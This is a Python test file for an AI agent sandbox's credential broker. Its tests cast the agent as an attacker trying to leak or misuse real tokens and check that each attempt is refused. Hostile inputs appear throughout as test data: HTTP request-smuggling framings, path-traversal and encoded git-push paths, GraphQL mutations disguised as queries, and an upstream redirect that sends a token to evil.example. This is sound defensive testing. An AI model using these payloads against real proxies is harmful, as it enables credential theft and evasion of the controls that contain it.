"""The credential broker attacked as the agent would (it is root in the VM and writes whatever bytes it likes): each
test is one attempt, kept so it stays refused. The broker's harness (tests/brokerharness.py) puts the proxy and its
broker in front of tests/fake_upstream.py, whose routes play the real hosts — including hosts that echo what they
were sent, as GitHub's Link header echoes a request's query. What a test checks is what the VM could get: the bytes
the client received, and what reached the upstream."""

from __future__ import annotations

import base64
import gzip
import json
import os
import socket
import ssl
import struct
import threading
import zlib
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from agentbox.net import proxy as netproxy
from agentbox.session import canaries
from tests.brokerharness import (
    CHATGPT,
    CLAUDE,
    CLAUDE_PH,
    CLAUDE_REAL,
    CODEX_PH,
    CODEX_REAL,
    CREDENTIAL_HOSTS,
    GEMINI_API,
    GEMINI_KEY_PH,
    GEMINI_PH,
    GEMINI_REAL,
    GH_PH,
    GH_REAL,
    GITHUB,
    GITHUB_API,
    GOOGLE_APIS,
    GOOGLE_OAUTH,
    REFRESH_REAL,
    UPLOADS,
    Harness,
)
from tests.fake_upstream import Request, Response, json_response

pytestmark = pytest.mark.timeout(60)

OTHER_VM_PH = "sk-ant-oat01-agentbox-ph-" + "ee" * 12


# -- a client that writes raw bytes --------------------------------------------------------------------------

def tls(broker: Harness, host: str, sni: str | None = "", verify: bool = True) -> ssl.SSLSocket:
    """A TLS connection to `host` through the proxy's CONNECT, as the VM opens one (`sni`: "" is the host)."""
    raw = socket.create_connection(("127.0.0.1", broker.proxy.port), timeout=20)
    raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    answer = b""
    while not answer.endswith(b"\r\n\r\n"):
        answer += raw.recv(1)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    context = broker.client_context()
    if not verify:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(raw, server_hostname=host if sni == "" else sni)


def received(sock: ssl.SSLSocket) -> bytes:
    """Everything the connection delivers until it ends (or goes quiet for a while)."""
    data = b""
    sock.settimeout(10)
    try:
        while piece := sock.recv(65536):
            data += piece
    except (TimeoutError, ssl.SSLError, ConnectionError, OSError):
        pass
    return data


def exchange(broker: Harness, host: str, request: bytes) -> bytes:
    sock = tls(broker, host)
    sock.sendall(request)
    try:
        return received(sock)
    finally:
        sock.close()


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def refusal(answer: bytes) -> dict[str, Any]:
    body = answer.partition(b"\r\n\r\n")[2]
    return json.loads(body)


def get(host: str, path: str, headers: str = "", method: str = "GET", body: bytes = b"") -> bytes:
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    return (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}{length}Connection: close\r\n\r\n").encode() + body


def echo_headers(request: Request) -> Response:
    """An endpoint that repeats the request's headers in its answer's body (as many an error page does)."""
    return json_response({"headers": request.headers, "path": request.path})


def streamed(chunks: list[bytes], headers: dict[str, str] | None = None, chunked: bool = True
             ) -> Callable[[Request], Response]:
    """An answer whose body the fake writes itself: as chunks, one per item (or plainly, `chunked=False`)."""
    def write(_rfile: Any, wfile: Any) -> None:
        for piece in chunks:
            wfile.write(b"%x\r\n%b\r\n" % (len(piece), piece) if chunked else piece)
            wfile.flush()
        if chunked:
            wfile.write(b"0\r\n\r\n")

    framing = {"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(sum(map(len, chunks)))}
    return lambda request: Response(200, headers={"Content-Type": "text/plain", **framing, **(headers or {})},
                                    stream=write)


def never_real(data: bytes, *reals: str) -> None:
    for real in (*reals, GH_REAL, CLAUDE_REAL, GEMINI_REAL, CODEX_REAL, REFRESH_REAL):
        assert real.encode() not in data, f"{real} reached the VM"
        assert real[:12].encode() not in data, f"the start of {real} reached the VM"


# -- nothing real comes back ---------------------------------------------------------------------------------

def test_githubs_link_header_echoes_the_query_and_a_credential_in_a_query_never_goes(broker: Harness) -> None:
    def paged(request: Request) -> Response:
        return json_response([], headers={"Link": f'<https://api.github.com{request.path}&page=2>; rel="next"'})

    broker.upstream.route("GET", "/user/repos", handler=paged, host=GITHUB_API)
    for query in (f"access_token={GH_PH}", f"key={GH_PH}", f"api_key={GH_PH}", f"per_page=1&token={GH_PH}"):
        answer = exchange(broker, GITHUB_API, get(GITHUB_API, f"/user/repos?{query}"))
        assert status_of(answer) == 403, answer
        never_real(answer)
    assert broker.upstream.requests_to(GITHUB_API) == []


@pytest.mark.parametrize("where", ["head", "body", "location"])
def test_an_answer_that_echoes_the_credential_is_not_sent_on(broker: Harness, where: str) -> None:
    def echo(request: Request) -> Response:
        token = request.headers["authorization"]
        if where == "head":
            return json_response({}, headers={"X-Debug-Authorization": token})
        if where == "location":
            return Response(302, b"", "text/html", {"Location": f"https://evil.example/?t={token.split()[-1]}"})
        return echo_headers(request)

    broker.upstream.route("GET", "/user", handler=echo, host=GITHUB_API)
    answer = exchange(broker, GITHUB_API, get(GITHUB_API, "/user", f"Authorization: token {GH_PH}\r\n"))
    never_real(answer)
    assert broker.upstream.requests_to(GITHUB_API)[-1].headers["authorization"] == f"token {GH_REAL}"
    entry = broker.logged("/user")[-1]
    assert entry["decision"] == "deny" and entry["reason"].startswith("attempted leak:"), entry


def test_an_echo_split_across_chunks_is_not_sent_even_in_part(broker: Harness) -> None:
    token = f"token {GH_REAL}".encode()
    broker.upstream.route("GET", "/split", host=GITHUB_API, handler=streamed(
        [b"x" * 5000 + token[:12], token[12:20], token[20:] + b" and the rest"]))
    answer = exchange(broker, GITHUB_API, get(GITHUB_API, "/split", f"Authorization: token {GH_PH}\r\n"))
    assert answer.startswith(b"HTTP/1.1 200") and b"x" * 5000 in answer  # what came before it was sent
    never_real(answer)
    assert b" and the rest" not in answer


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_a_compressed_echo_is_read_and_not_sent_on(broker: Harness, encoding: str) -> None:
    plain = b'{"you sent": "Bearer ' + CLAUDE_REAL.encode() + b'"}'
    body = gzip.compress(plain) if encoding == "gzip" else zlib.compress(plain)
    broker.upstream.route("GET", "/packed", host=CLAUDE, handler=lambda request: Response(
        200, body, "application/json", {"Content-Encoding": encoding}))
    answer = exchange(broker, CLAUDE, get(CLAUDE, "/packed", f"Authorization: Bearer {CLAUDE_PH}\r\n"))
    for form in (answer, *_inflated(answer)):
        never_real(form)
    assert broker.upstream.requests_to(CLAUDE)[-1].headers["accept-encoding"] == "identity"


@pytest.mark.parametrize("second", [b'"second": "member"}', b'"echo": "' + CLAUDE_REAL.encode() + b'"}'])
def test_every_member_of_a_gzip_answer_is_read(broker: Harness, second: bytes) -> None:
    body = gzip.compress(b'{"first": "member", ') + gzip.compress(second)
    broker.upstream.route("GET", "/members", host=CLAUDE, handler=lambda request: Response(
        200, body, "application/json", {"Content-Encoding": "gzip"}))
    answer = exchange(broker, CLAUDE, get(CLAUDE, "/members", f"Authorization: Bearer {CLAUDE_PH}\r\n"))
    never_real(answer)
    if b"echo" in second:
        assert "attempted leak" in broker.logged("/members")[-1]["reason"]
    else:  # decoded whole, both members, and sent on as identity
        assert answer.endswith(b'{"first": "member", "second": "member"}\r\n0\r\n\r\n'), answer


def _inflated(answer: bytes) -> list[bytes]:
    body = answer.partition(b"\r\n\r\n")[2]
    found = []
    for wbits in (47, -15):
        try:
            found.append(zlib.decompressobj(wbits).decompress(body))
        except zlib.error:
            pass
    return found


def test_an_answer_in_an_encoding_the_broker_cannot_read_is_refused(broker: Harness) -> None:
    broker.upstream.route("GET", "/br", host=CLAUDE, handler=lambda request: Response(
        200, b"\x1b\x03\x00opaque", "application/json", {"Content-Encoding": "br"}))
    answer = exchange(broker, CLAUDE, get(CLAUDE, "/br", f"Authorization: Bearer {CLAUDE_PH}\r\n"))
    assert status_of(answer) == 502 and "cannot scan" in refusal(answer)["reason"]


def test_a_refresh_token_echoed_percent_encoded_or_json_escaped_is_caught(broker: Harness) -> None:
    for form in (REFRESH_REAL.replace("/", "%2F").replace("+", "%2B"), REFRESH_REAL.replace("/", "\\/")):
        broker.upstream.route("GET", "/echo", host=CLAUDE, handler=lambda request, form=form: json_response(
            {"refresh": form}))
        answer = exchange(broker, CLAUDE, get(CLAUDE, "/echo", f"Authorization: Bearer {CLAUDE_PH}\r\n"))
        assert form.encode() not in answer, form


def test_an_answer_without_a_credential_in_the_request_is_scanned_too(broker: Harness) -> None:
    broker.upstream.route("GET", "/leaky", {"token": GEMINI_REAL}, host=CLAUDE)
    answer = exchange(broker, CLAUDE, get(CLAUDE, "/leaky"))
    never_real(answer)


# -- placeholders only where their service takes them --------------------------------------------------------

@pytest.mark.parametrize("request_bytes,where", [
    (get(CLAUDE, "/v1/models", f"Cookie: session={CLAUDE_PH}\r\n"), "the Cookie header"),
    (get(CLAUDE, f"/v1/{CLAUDE_PH}/models"), "the request's path"),
    (get(CLAUDE, "/v1/models?x=" + CLAUDE_PH.replace("a", "%61")), "the x query parameter"),
    (get(CLAUDE, f"/v1/models?{CLAUDE_PH}=1"), "a query parameter's name"),
    (get(CLAUDE, "/v1/models", f"X-Forwarded-Authorization: Bearer {CLAUDE_PH}\r\n"), "X-Forwarded-Authorization"),
    (get(CLAUDE, "/v1/models", f"X-{CLAUDE_PH}: 1\r\n"), "a header's name"),
    (get(CLAUDE, "/v1/models", f"Authorization: Bearer {CLAUDE_PH}x\r\n"), "not as its whole value"),
    (get(CLAUDE, "/v1/models", f"Authorization: Bearer x{CLAUDE_PH}\r\n"), "not as its whole value"),
    (get(CLAUDE, "/v1/models", f"Authorization: Bearer {OTHER_VM_PH}\r\n"), "another VM's placeholder"),
    (get(CLAUDE, "/v1/models", f"Authorization: Bearer {CLAUDE_PH}\r\nAuthorization: Bearer {CLAUDE_PH}\r\n"),
     "twice"),
    (get(CLAUDE, "/v1/messages", f"Authorization: Bearer {CLAUDE_PH}\r\nContent-Type: application/json\r\n",
         "POST", json.dumps({"messages": [{"content": f"my token is {CLAUDE_PH}"}]}).encode()), "in the body"),
    (get(CLAUDE, "/v1/messages", "", "POST", f"x={OTHER_VM_PH}".encode()), "in the body"),
])
def test_a_placeholder_anywhere_but_its_place_is_refused_and_nothing_goes_out(
        broker: Harness, request_bytes: bytes, where: str) -> None:
    broker.upstream.route("GET", "/v1/models", {"data": []}, host=CLAUDE)
    broker.upstream.route("POST", "/v1/messages", {"ok": True}, host=CLAUDE)
    answer = exchange(broker, CLAUDE, request_bytes)
    assert status_of(answer) == 403, answer
    assert where in refusal(answer)["reason"], refusal(answer)
    assert broker.upstream.requests_to(CLAUDE) == []


def test_a_placeholder_split_across_chunks_of_a_body_is_found(broker: Harness) -> None:
    half = len(GH_PH) // 2
    body = (b"%x\r\n%b\r\n" % (half + 3, b"ab=" + GH_PH[:half].encode()) + b"%x\r\n%b\r\n" % (
        len(GH_PH) - half, GH_PH[half:].encode()) + b"0\r\n\r\n")
    request = (f"POST /v1/messages HTTP/1.1\r\nHost: {CLAUDE}\r\nAuthorization: Bearer {CLAUDE_PH}\r\n"
               "Transfer-Encoding: chunked\r\n\r\n").encode() + body
    broker.upstream.route("POST", "/v1/messages", {"ok": True}, host=CLAUDE)
    answer = exchange(broker, CLAUDE, request)
    assert status_of(answer) == 403 and "attempted leak" in refusal(answer)["reason"]
    for sent in broker.upstream.requests_to(CLAUDE):
        assert GH_PH.encode() not in sent.body


def test_a_placeholder_in_a_plain_http_request_of_any_vm_is_refused(broker: Harness) -> None:
    bodies: list[bytes] = []

    class Plain(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            bodies.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Plain)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    target = f"127.0.0.1:{server.server_address[1]}"
    broker.proxy.set_policy(netproxy.Policy(allow=[target], allow_loopback=True))
    try:
        for path, headers, body in ((f"/?q={OTHER_VM_PH}", "", b""), ("/", f"X-A: {OTHER_VM_PH}\r\n", b""),
                                    ("/", "", b"x" * 70_000 + f"token={GH_PH}".encode()), ("/", "", b"fine")):
            raw = socket.create_connection(("127.0.0.1", broker.proxy.port), timeout=10)
            raw.sendall(f"POST http://{target}{path} HTTP/1.1\r\nHost: {target}\r\n{headers}"
                        f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
            answer = b""
            raw.settimeout(10)
            while piece := raw.recv(65536):
                answer += piece
            raw.close()
            if body == b"fine":
                # in `bodies`, not last: the request cut short before may be read to its end only after this one
                assert answer.startswith(b"HTTP/1.0 200") and b"fine" in bodies, answer
            else:
                assert status_of(answer) == 403 and b"attempted leak" in answer, (path, answer)
        assert all(GH_PH.encode() not in sent and OTHER_VM_PH.encode() not in sent for sent in bodies)
    finally:
        server.shutdown()
        server.server_close()


# -- each credential only for the requests its CLI makes -----------------------------------------------------

@pytest.mark.parametrize("host,method,path,allowed", [
    (GOOGLE_APIS, "GET", "/oauth2/v2/userinfo", True),
    (GOOGLE_APIS, "POST", "/oauth2/v2/userinfo", False),
    (GOOGLE_APIS, "GET", "/compute/v1/projects/p/zones/z/instances", False),
    (GOOGLE_APIS, "GET", "/storage/v1/b?project=p", False),
    (GOOGLE_APIS, "GET", "/oauth2/v2/userinfo/../../../storage/v1/b", False),
    (GOOGLE_APIS, "GET", "/oauth2/v2/userinfo%2f..%2f..%2f..%2fstorage/v1/b", False),
    (GOOGLE_OAUTH, "POST", "/tokeninfo", True),
    (GOOGLE_OAUTH, "POST", "/revoke", False),
    (CHATGPT, "POST", "/backend-api/codex/responses", True),
    (CHATGPT, "GET", "/backend-api/wham/usage", True),
    (CHATGPT, "GET", "/backend-api/conversations?offset=0", False),
    (CHATGPT, "GET", "/backend-api/memories", False),
    (CHATGPT, "DELETE", "/backend-api/codex/tasks/1", False),
])
def test_a_token_goes_to_a_host_that_fronts_more_than_the_agents_api_only_for_what_its_cli_calls(
        broker: Harness, host: str, method: str, path: str, allowed: bool) -> None:
    placeholder = CODEX_PH if host == CHATGPT else GEMINI_PH
    broker.upstream.route(method, path.split("?")[0], {"ok": True}, host=host)
    answer = exchange(broker, host, get(host, path, f"Authorization: Bearer {placeholder}\r\n", method))
    if allowed:
        assert status_of(answer) == 200, answer
        real = CODEX_REAL if host == CHATGPT else GEMINI_REAL
        assert broker.upstream.requests_to(host)[-1].headers["authorization"] == f"Bearer {real}"
    else:
        assert status_of(answer) == 403 and "goes to" in refusal(answer)["reason"], answer
        assert broker.upstream.requests_to(host) == []


def test_google_revoke_with_the_token_in_its_query_is_refused(broker: Harness) -> None:
    answer = exchange(broker, GOOGLE_OAUTH, get(GOOGLE_OAUTH, f"/revoke?token={GEMINI_PH}", method="POST"))
    assert status_of(answer) == 403
    assert broker.upstream.requests_to(GOOGLE_OAUTH) == []


def test_a_gemini_api_key_goes_in_its_header_its_query_and_nowhere_else(broker: Harness) -> None:
    broker.upstream.route("POST", "/v1beta/models/m:generateContent", {"ok": True}, host=GEMINI_API)
    for headers, query in ((f"x-goog-api-key: {GEMINI_KEY_PH}\r\n", ""), ("", f"?key={GEMINI_KEY_PH}")):
        answer = exchange(broker, GEMINI_API, get(GEMINI_API, "/v1beta/models/m:generateContent" + query, headers,
                                                  "POST", b"{}"))
        assert status_of(answer) == 200, answer
    answer = exchange(broker, GEMINI_API, get(GEMINI_API, "/v1beta/models/m:generateContent",
                                              f"x-api-key: {GEMINI_KEY_PH}\r\n", "POST", b"{}"))
    assert status_of(answer) == 403 and "takes it only in" in refusal(answer)["reason"]


# -- GitHub: read-only by allow-list -------------------------------------------------------------------------

@pytest.mark.parametrize("query,reads", [
    ("#\rmutation { createCommitOnBranch(input: {}) { clientMutationId } }", False),
    ("# a comment\r\nquery { viewer { login } }", True),
    ("#\u2028mutation { a }", False),
    ("\ufeffmutation { a }", False),
    ("query A { a } mutation B { b }", False),
    ("{a}mutation{b}", False),
    ("query mutation { viewer { login } }", True),
    ('query { a(x: """ } mutation { b } """) }', True),
    ('query { a(x: "\\" } mutation { b }") }', True),
    ('query { a(x: "\\"") } mutation { b }', False),
    ("subscription { a }", False),
    ("fragment F on User { login } mutation { b }", False),
    ("fragment F on User { login } query { viewer { ...F } }", True),
    ("query ($a: Int = 1) @dir(x: [1, 2]) { a }", True),
    ("query { a } extend type Query { b: Int }", False),
    (",,,mutation { a }", False),
    ("query { a }}mutation { b }", False),
    ("", False),
])
def test_graphql_passes_only_when_every_operation_is_a_query(broker: Harness, query: str, reads: bool) -> None:
    _graphql(broker, json.dumps({"query": query}).encode(), reads)


@pytest.mark.parametrize("body,reads", [
    (b'{"query": "query { a }", "query": "mutation { b }"}', False),
    (b'{"query": "mutation { b }", "query": "query { a }"}', False),
    (b'[{"query": "{ a }"}, {"query": "{ b }"}]', True),
    (b'[{"query": "{ a }"}, {"query": "mutation M { b }"}]', False),
    (b"[]", False),
    (b'{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "ab"}}}', False),
    (b'{"query": ["mutation { b }"]}', False),
    (b'\xef\xbb\xbf{"query": "{ a }"}', False),
    (b'{"qu\\u0065ry": "mutation { b }"}', False),
])
def test_graphql_bodies_the_broker_cannot_read_as_queries_are_refused(broker: Harness, body: bytes,
                                                                     reads: bool) -> None:
    _graphql(broker, body, reads)


def _graphql(broker: Harness, body: bytes, reads: bool, path: str = "/graphql", headers: str = "") -> None:
    broker.upstream.route("POST", "/graphql", {"data": {}}, host=GITHUB_API)
    answer = exchange(broker, GITHUB_API, get(GITHUB_API, path, f"Authorization: bearer {GH_PH}\r\n{headers}",
                                              "POST", body))
    if reads:
        assert status_of(answer) == 200, answer
        assert broker.upstream.requests_to(GITHUB_API)[-1].body == body
    else:
        assert status_of(answer) == 403 and "read-only" in refusal(answer)["reason"], answer
        assert broker.upstream.requests_to(GITHUB_API) == []


@pytest.mark.parametrize("path,headers", [
    ("/graphql?query=mutation%7Bb%7D", ""),
    ("/graphql/", ""),
    ("//graphql", ""),
    ("/x/../graphql", ""),
    ("/%67raphql", ""),
    ("/graphql", "Content-Encoding: gzip\r\n"),
])
def test_graphql_spelled_otherwise_is_still_read(broker: Harness, path: str, headers: str) -> None:
    body = json.dumps({"query": "mutation { addStar(input: {}) { clientMutationId } }"}).encode()
    if "gzip" in headers:
        body = gzip.compress(json.dumps({"query": "query { a }"}).encode())
    _graphql(broker, body, False, path, headers)


@pytest.mark.parametrize("query,reads", [("query%20%7B%20a%20%7D", True), ("mutation%20%7B%20a%20%7D", False),
                                         ("%23%0Dmutation%20%7Ba%7D", False)])
def test_graphql_over_get_is_read_too(broker: Harness, query: str, reads: bool) -> None:
    broker.upstream.route("GET", "/graphql", {"data": {}}, host=GITHUB_API)
    answer = exchange(broker, GITHUB_API, get(GITHUB_API, f"/graphql?query={query}", f"Authorization: token {GH_PH}\r\n"))
    assert (status_of(answer) == 200) == reads, answer


@pytest.mark.parametrize("method,path", [
    ("POST", "/owner/repo.git/git-receive-pack/"),
    ("POST", "/owner/repo.git//git-receive-pack"),
    ("POST", "/owner//repo.git/git-receive-pack"),
    ("POST", "/owner/repo.git/./git-receive-pack"),
    ("POST", "/owner/x/../repo.git/git-receive-pack"),
    ("POST", "/owner/repo.git/git-receive%2Dpack"),
    ("POST", "/owner/repo.git/git%2dreceive%2dpack"),
    ("POST", "/owner/repo.git%2Fgit-receive-pack"),
    ("GET", "/owner/repo.git/info/refs?service=git-upload-pack&service=git-receive-pack"),
    ("GET", "/owner/repo.git/info/refs?service=git%2Dreceive%2Dpack"),
    ("POST", "/owner/repo.git/git-receive-pack;x=1"),
    ("POST", "/owner/repo.git;x/git-receive-pack"),
    ("POST", "/owner/repo/issues"),
    ("GET", "/settings/tokens"),
    ("POST", "/owner/repo.git/info/lfs/objects/batch"),
])
def test_a_push_spelled_otherwise_and_other_github_com_requests_with_the_login_are_refused(
        broker: Harness, method: str, path: str) -> None:
    basic = base64.b64encode(f"x-access-token:{GH_PH}".encode()).decode()
    body = b"0000" if method == "POST" else b""
    if path.endswith("batch"):
        body = json.dumps({"operation": "upload", "objects": []}).encode()
    broker.upstream.route(method, path.split("?")[0], {"ok": True}, host=GITHUB)
    answer = exchange(broker, GITHUB, get(GITHUB, path, f"Authorization: Basic {basic}\r\n", method, body))
    assert status_of(answer) == 403, answer
    assert broker.upstream.requests_to(GITHUB) == []


def test_git_lfs_downloads_pass_with_the_login(broker: Harness) -> None:
    basic = base64.b64encode(f"me:{GH_PH}".encode()).decode()
    broker.upstream.route("POST", "/owner/repo.git/info/lfs/objects/batch", {"objects": []}, host=GITHUB)
    body = json.dumps({"operation": "download", "objects": []}).encode()
    answer = exchange(broker, GITHUB, get(GITHUB, "/owner/repo.git/info/lfs/objects/batch",
                                          f"Authorization: Basic {basic}\r\n", "POST", body))
    assert status_of(answer) == 200, answer
    sent = broker.upstream.requests_to(GITHUB)[-1].headers["authorization"]
    assert base64.b64decode(sent.split()[1]) == f"me:{GH_REAL}".encode()


@pytest.mark.parametrize("host,method,path", [
    (UPLOADS, "POST", "/repos/o/r/releases/1/assets?name=a.zip"),
    (GITHUB_API, "OPTIONS", "/repos/o/r"),
    (GITHUB_API, "PUT", "/user/starred/o/r"),
    (GITHUB_API, "GET", "/copilot_internal/v2/token"),
    (GITHUB_API, "GET", "/copilot_internal/v2/token;x"),
])
def test_github_writes_and_the_copilot_token_exchange_are_refused(broker: Harness, host: str, method: str,
                                                                   path: str) -> None:
    answer = exchange(broker, host, get(host, path, f"Authorization: token {GH_PH}\r\n", method,
                                        b"x" if method in ("POST", "PUT") else b""))
    assert status_of(answer) == 403, answer
    assert broker.upstream.requests_to(host) == []


# -- HTTP/1.1 as the VM may bend it --------------------------------------------------------------------------

@pytest.mark.parametrize("request_bytes", [
    b"GET /user HTTP/1.1\r\nHost: api.github.com\r\nX-A: 1\r\n Authorization: token " + GH_PH.encode() + b"\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: api.github.com\nAuthorization: token " + GH_PH.encode() + b"\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: api.github.com\r\nX-A: a\x00b\r\n\r\n",
    b"get /user HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization : token " + GH_PH.encode() + b"\r\n\r\n",
    b"GET /user#frag HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET /us\x7fer HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: api.github.com\r\nHost: evil.example\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"GET /user HTTP/1.1\r\n\r\n",
    b"GET https://evil.example/user HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET https://me@api.github.com/user HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET http://api.github.com/user HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET https://api.github.com:444/user HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
    b"GET /user HTTP/1.1\r\nHost: api.github.com\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
])
def test_a_request_head_the_broker_cannot_read_strictly_is_refused_and_not_forwarded(
        broker: Harness, request_bytes: bytes) -> None:
    broker.upstream.route("GET", "/user", {"login": "me"}, host=GITHUB_API)
    answer = exchange(broker, GITHUB_API, request_bytes)
    assert status_of(answer) == 403, answer
    assert refusal(answer)["by"] == "agentbox credential broker"
    assert broker.upstream.requests_to(GITHUB_API) == []
    assert any(entry["decision"] == "deny" for entry in broker.entries())


@pytest.mark.parametrize("framing,body", [
    ("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", b"5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", b"5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: xchunked\r\n", b"5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: gzip, chunked\r\n", b"5\r\nhello\r\n0\r\n\r\n"),
    ("Content-Length: 5\r\nContent-Length: 6\r\n", b"hello!"),
    ("Content-Length: +5\r\n", b"hello"),
    ("Transfer-Encoding: chunked\r\n", b"0x5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b"+5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b" 5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b"1_0\r\nhellohellohello!\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b"00000000000000000005\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b"5\r\nhelloXX0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", b"5\r\nhello\r\n0\r\nAuthorization: token x\r\n\r\n"),
])
def test_request_framing_that_could_mean_two_things_is_refused(broker: Harness, framing: str, body: bytes) -> None:
    broker.upstream.route("POST", "/v1/messages", {"ok": True}, host=CLAUDE)
    request = (f"POST /v1/messages HTTP/1.1\r\nHost: {CLAUDE}\r\nAuthorization: Bearer {CLAUDE_PH}\r\n{framing}"
               "\r\n").encode() + body
    answer = exchange(broker, CLAUDE, request)
    assert status_of(answer) == 403, answer
    for sent in broker.upstream.requests_to(CLAUDE):  # cut short before its end, at most
        assert sent.body != b"hello"


def test_pipelined_requests_are_each_judged(broker: Harness) -> None:
    broker.upstream.route("GET", "/user", {"login": "me"}, host=GITHUB_API)
    broker.upstream.route("DELETE", "/repos/o/r", {"ok": True}, host=GITHUB_API)
    auth = f"Authorization: token {GH_PH}\r\n"
    both = (f"GET /user HTTP/1.1\r\nHost: {GITHUB_API}\r\n{auth}\r\n"
            f"DELETE /repos/o/r HTTP/1.1\r\nHost: {GITHUB_API}\r\n{auth}Connection: close\r\n\r\n").encode()
    answer = exchange(broker, GITHUB_API, both)
    assert answer.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in answer, answer
    assert [r.method for r in broker.upstream.requests_to(GITHUB_API)] == ["GET"]


def test_an_absolute_form_target_for_the_host_is_brokered(broker: Harness) -> None:
    broker.upstream.route("GET", "/user", {"login": "me"}, host=GITHUB_API)
    answer = exchange(broker, GITHUB_API, f"GET https://{GITHUB_API}/user HTTP/1.1\r\nHost: {GITHUB_API}\r\n"
                                          f"Authorization: token {GH_PH}\r\nConnection: close\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200"), answer
    assert broker.upstream.requests_to(GITHUB_API)[-1].path == "/user"


@pytest.mark.parametrize("sni", [GITHUB_API, "evil.example", None])
def test_a_tls_name_other_than_the_connected_host_gets_no_certificate_even_unverified(
        broker: Harness, sni: str | None) -> None:
    with pytest.raises((ssl.SSLError, ConnectionError)):
        sock = tls(broker, CLAUDE, sni=sni, verify=False)
        sock.sendall(get(CLAUDE, "/v1/models", f"Authorization: Bearer {CLAUDE_PH}\r\n"))
        assert not received(sock)
        raise ConnectionError("no answer")
    assert broker.upstream.requests == []


def test_a_request_the_broker_cannot_parse_gets_its_403_json_and_a_log_line(broker: Harness) -> None:
    answer = exchange(broker, CLAUDE, b"\x16\x03\x01 garbage that is not HTTP\r\n\r\n")
    assert status_of(answer) == 403 and refusal(answer)["reason"].startswith("a request the broker cannot read")
    assert broker.upstream.requests == []
    assert [e for e in broker.entries() if e["decision"] == "deny" and "cannot read" in e["reason"]]


# -- WebSockets ----------------------------------------------------------------------------------------------

def frame(payload: bytes, opcode: int = 1, mask: bool = True, fin: bool = True) -> bytes:
    head = bytes([(0x80 if fin else 0) | opcode])
    length = len(payload)
    size = bytes([length | (0x80 if mask else 0)]) if length < 126 else bytes([126 | (0x80 if mask else 0)]) + \
        struct.pack("!H", length)
    if not mask:
        return head + size + payload
    key = os.urandom(4)
    return head + size + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))


def read_frames(rfile: Any, count: int) -> list[bytes]:
    payloads = []
    for _ in range(count):
        head = rfile.read(2)
        length = head[1] & 0x7F
        if length == 126:
            length = struct.unpack("!H", rfile.read(2))[0]
        key = rfile.read(4) if head[1] & 0x80 else b"\0\0\0\0"
        data = rfile.read(length)
        payloads.append(bytes(b ^ key[i % 4] for i, b in enumerate(data)))
    return payloads


def websocket_server(broker: Harness, answer: Callable[[list[bytes]], list[bytes]], reads: int = 1,
                     extensions: str | None = None) -> list[bytes]:
    """A WebSocket endpoint at /ws on CLAUDE: it reads `reads` frames, then writes the frames `answer` makes."""
    got: list[bytes] = []

    def serve(rfile: Any, wfile: Any) -> None:
        got.extend(read_frames(rfile, reads))
        for raw in answer(got):
            wfile.write(raw)
            wfile.flush()

    headers = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Accept": "x"}
    if extensions:
        headers["Sec-WebSocket-Extensions"] = extensions
    broker.upstream.route("GET", "/ws", host=CLAUDE, handler=lambda request: Response(101, headers=headers,
                                                                                      stream=serve))
    return got


UPGRADE = (f"GET /ws HTTP/1.1\r\nHost: {CLAUDE}\r\nAuthorization: Bearer {CLAUDE_PH}\r\nUpgrade: websocket\r\n"
           "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n").encode()


def test_a_websocket_carries_the_real_token_on_its_upgrade_and_relays_frames(broker: Harness) -> None:
